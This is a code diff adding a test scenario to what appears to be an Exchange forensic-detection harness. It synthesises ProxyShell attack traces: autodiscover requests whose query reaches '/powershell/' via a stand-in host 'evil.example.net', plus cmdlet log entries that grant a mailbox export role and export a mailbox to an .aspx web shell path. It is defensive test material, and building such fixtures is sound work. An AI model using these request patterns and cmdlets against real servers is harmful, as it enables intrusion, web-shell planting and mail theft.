@@ -218,6 +218,67 @@ internal static class NeighbourScenarios
         scene.Campaign("cve-2020-0688", "compromised");
     }
 
+    /// <summary>The session is in the web logs, what was done in it only in the Windows events: Exchange's own cmdlet logs are gone.</summary>
+    internal static void CmdletEvents(Scene scene)
+    {
+        scene.Period(Scene.Utc(2021, 8, 22), 5);
+        Server server = scene.AddServer("EX01", Scene.Cu20);
+        scene.Ordinary(server, 120, Scene.Utc(2021, 3, 20, 9), "Upgrade");
+        DateTime t = scene.At(1, 3, 11);
+        for (int i = 0; i < 4; i++)
+        {
+            Trace session = server.Handle(new Request(t.AddSeconds(i), "/autodiscover/autodiscover.json", Attacker, Tool)
+            {
+                Method = "POST",
+                Query = "@evil.example.net/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBBUJhc2lj&Email=autodiscover/autodiscover.json%3F@evil.example.net",
+                Protocol = "Autodiscover",
+                Anchor = "SMTP:@evil.example.net",
+                ReachesBackEnd = true,
+                BackEndStem = "/powershell/",
+                BackEndQuery = "X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBBUJhc2lj",
+                BackEndUser = server.MachineAccount,
+            });
+            if (i == 0)
+                scene.Expect("proxyshell", "access|privilege|execution", "succeeded", session);
+        }
+
+        server.Drop(f => f.Contains("\\CmdletInfra\\", StringComparison.Ordinal));
+        var lines = new StringBuilder();
+        int record = 900;
+        for (DateTime hour = scene.First; hour < scene.Last.AddDays(1); hour = hour.AddHours(1))
+            Cmdlet(lines, server, ref record, hour, "Set-Mailbox", "-Identity \"" + People.HealthMailbox + "\"", "NT AUTHORITY\\SYSTEM");
+        Cmdlet(lines, server, ref record, scene.At(3, 10, 0), "New-MailboxExportRequest", "-Mailbox \"karin.dekker\" -FilePath \"\\\\fs01\\legal$\\k.pst\"", Server.Domain + "/Admins/admin");
+        int asked = record;
+        Cmdlet(lines, server, ref record, t.AddSeconds(9), "New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -SecurityGroup \"Organization Management\"", Server.Domain + "/Users/Administrator");
+        Cmdlet(lines, server, ref record, t.AddSeconds(14), "New-MailboxExportRequest", "-Mailbox \"legal\" -ContentFilter \"Subject -eq '7'\" -FilePath \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\cm.aspx\"", Server.Domain + "/Users/Administrator");
+        string[] all = lines.ToString().TrimEnd('\n').Split('\n');
+        var file = new EvidenceFile(server.Name, @"C:\events\management.json", Encoding.UTF8.GetBytes(lines.ToString()), scene.Last);
+        scene.Add(file);
+        scene.Expect("proxyshell|null", "persistence|execution", "succeeded", new Mark { Time = t.AddSeconds(14), Artefact = file, Line = all.Length });
+        scene.Truth.Traps.Add(new Trap("a lawful export in the events", new Mark { Time = scene.At(3, 10, 0), Artefact = file, Line = asked - 900 }));
+        scene.Truth.Actors.Add(Attacker);
+        scene.Verdict("compromised");
+        scene.Campaign("proxyshell", "compromised");
+    }
+
+    /// <summary>A cmdlet in the log MSExchange Management as Velociraptor exports it: values without names.</summary>
+    private static void Cmdlet(StringBuilder lines, Server server, ref int record, DateTime time, string cmdlet, string parameters, string caller) => lines.Append(new JsonObject
+    {
+        ["System"] = new JsonObject
+        {
+            ["Provider"] = new JsonObject { ["Name"] = "MSExchange CmdletLogs" },
+            ["EventID"] = new JsonObject { ["Value"] = 1 },
+            ["TimeCreated"] = new JsonObject { ["SystemTime"] = (time - DateTime.UnixEpoch).TotalSeconds },
+            ["EventRecordID"] = record++,
+            ["Channel"] = "MSExchange Management",
+            ["Computer"] = server.Fqdn,
+        },
+        ["EventData"] = new JsonObject
+        {
+            ["Data"] = new JsonArray(cmdlet, parameters, caller, "S-1-5-21-1-2-3-500", "S-1-5-21-1-2-3-500", "Remote-ManagementShell-Unknown", "8372 w3wp#MSExchangePowerShellAppPool"),
+        },
+    }.ToJsonString()).Append('\n');
+
     /// <summary>A record of process creation as winlogbeat writes it.</summary>
     private static void Add(StringBuilder lines, Server server, ref int record, DateTime time, string image, string parent, string command) => lines.Append(new JsonObject
     {
